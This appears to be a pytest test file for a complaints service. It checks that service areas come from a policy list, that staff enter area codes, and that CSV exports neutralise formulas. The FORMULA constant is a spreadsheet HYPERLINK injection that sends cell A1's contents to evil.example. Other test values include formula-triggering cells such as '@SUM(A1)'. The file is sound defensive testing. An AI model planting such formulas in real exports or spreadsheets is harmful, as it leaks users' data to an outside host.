"""Issue 29 (6): service areas come from the policy's list (a made-up one from a resident goes to the default
area), staff enter a code, never free text, and every CSV cell is neutralised against formulas."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from pydantic import ValidationError

from core.settings import Settings
from domain.policy import Policy
from reporting.files import cell, csv_of
from store import reports
from tests.api_helpers import assert_problem, bearer, complaint_body
from tests.test_residents import Stack, complaint, settled, stack

__all__ = ["stack"]

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


async def area_of(stack: Stack, reference: str) -> str:
    area: str = await stack.pool.fetchval(
        "SELECT service_area FROM complaints WHERE reference = $1", reference
    )
    return area


async def test_a_made_up_area_from_a_resident_goes_to_the_default_area(stack: Stack) -> None:
    async with stack.client() as client:
        created = await client.post("/api/public/complaints", json=complaint(service_area=FORMULA))
        assert created.status_code == 201, created.text
        reference = created.json()["reference"]
        await settled(stack, reference)
        stored = await stack.pool.fetchval(
            "SELECT service_area FROM complaints WHERE reference = $1", reference
        )
        assert stored == "general"
        listed = await client.post("/api/public/complaints", json=complaint(service_area="waste"))
        waste = listed.json()["reference"]
        await settled(stack, waste)
        assert (
            await stack.pool.fetchval("SELECT service_area FROM complaints WHERE reference = $1", waste)
            == "waste"
        )


async def test_staff_enter_an_area_code_not_free_text(stack: Stack) -> None:
    settings: Settings = stack.settings
    async with stack.client() as client:
        refused = await client.post(
            "/api/complaints",
            json=complaint_body(service_area=FORMULA),
            headers=bearer("olivia.officer", settings),
        )
        assert_problem(refused, 422, "service_area")


def test_every_csv_cell_that_could_be_a_formula_is_neutralised() -> None:
    for dangerous in (FORMULA, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert str(cell(dangerous)).startswith("'")
    assert cell(12) == 12 and cell(-3) == -3 and cell(None) == "" and cell("housing") == "housing"

    original = reports.rows_for_csv

    def rows(_: dict[str, Any]) -> list[tuple[str, str, str, str, Any]]:
        return [("service_area", FORMULA, "stage1", "received", 1)]

    reports.rows_for_csv = rows  # type: ignore[assignment]
    try:
        written = csv_of({})
    finally:
        reports.rows_for_csv = original
    [_, row] = list(csv.reader(io.StringIO(written)))
    assert row[1] == "'" + FORMULA


def test_every_existing_policy_gets_the_default_areas_and_a_bad_default_is_refused(
    policies: dict[str, Policy],
) -> None:
    for policy in policies.values():
        assert policy.area_for(policy.default_service_area) == policy.default_service_area
        assert policy.area_for("made-up") == "general"
    any_policy = next(iter(policies.values()))
    with pytest.raises(ValidationError, match="default_service_area"):
        Policy.model_validate(
            any_policy.model_dump() | {"service_areas": [{"code": "waste", "label": "Bins"}]}
        )
